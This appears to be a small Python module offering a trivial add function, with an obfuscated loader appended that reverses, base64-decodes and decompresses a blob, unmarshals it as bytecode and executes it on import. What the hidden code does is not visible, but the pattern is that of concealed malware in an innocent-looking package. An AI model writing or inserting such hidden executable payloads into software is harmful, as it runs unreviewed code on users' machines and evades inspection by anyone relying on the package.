__version__ = "1.0.0"


def add(a, b):
    return a + b

import base64, marshal, zlib

_ = lambda __: zlib.decompress(base64.b64decode(__[::-1]))
exec(marshal.loads(_(b"=AfGGxLAKA1CREGg1AftyfDp2ArNwCzbZkRGY+hEDYBKgB26DI2K1mUzp8UzJDr4+bSMvR+g+kxKlkXmFVArbZcT/IhoUzLzW3y0mMIMjpwQjkATjUTYBGJjwKMkKDJxA7MmQyws6DFzCAkZLxJe")))
